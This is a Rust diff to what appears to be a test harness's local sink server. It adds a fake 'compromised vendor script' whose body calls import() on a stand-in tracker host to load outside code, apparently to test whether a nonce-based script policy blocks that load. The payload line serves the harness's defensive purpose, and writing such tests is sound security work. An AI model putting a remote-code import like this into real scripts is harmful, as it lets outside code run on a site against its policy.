@@ -20,6 +20,18 @@ const MAX_HEAD: usize = 64 << 10;
 /// What the vendor sink serves (a script that does nothing).
 const VENDOR_BODY: &str = "/* vendor sink */\r\n";
 
+/// Path of a vetted vendor script (served first-party) that tries to load code
+/// from a host its rule does not name, with `import()`: the nonce it was given
+/// travels with the module fetch.
+pub const VENDOR_IMPORT_PATH: &str = "/ekr/vendor-import.js";
+const VENDOR_IMPORT_BODY: &str = "/* vendor sink: compromised vendor script */\nimport(\"https://vendor.tracker.example/v.js\").catch(function () {});\n";
+
+/// The body for a request line (`GET /path HTTP/1.1`).
+fn vendor_body(request_line: &str) -> &'static str {
+    let path = request_line.split(' ').nth(1).unwrap_or_default();
+    if path.split('?').next() == Some(VENDOR_IMPORT_PATH) { VENDOR_IMPORT_BODY } else { VENDOR_BODY }
+}
+
 /// One connection a sink accepted.
 #[derive(Debug, Clone)]
 pub struct Hit {
@@ -158,10 +170,13 @@ async fn serve(mut sock: TcpStream, kind: Kind) -> (Option<String>, String) {
                     return (host, what);
                 }
                 let resp = match kind {
-                    Kind::Vendor => format!(
-                        "HTTP/1.1 200 OK\r\ncontent-type: text/javascript\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{VENDOR_BODY}",
-                        VENDOR_BODY.len()
-                    ),
+                    Kind::Vendor => {
+                        let body = vendor_body(&what);
+                        format!(
+                            "HTTP/1.1 200 OK\r\ncontent-type: text/javascript\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
+                            body.len()
+                        )
+                    }
                     Kind::Http | Kind::Tls => {
                         "HTTP/1.1 204 No Content\r\ncontent-length: 0\r\nconnection: close\r\n\r\n".to_string()
                     }
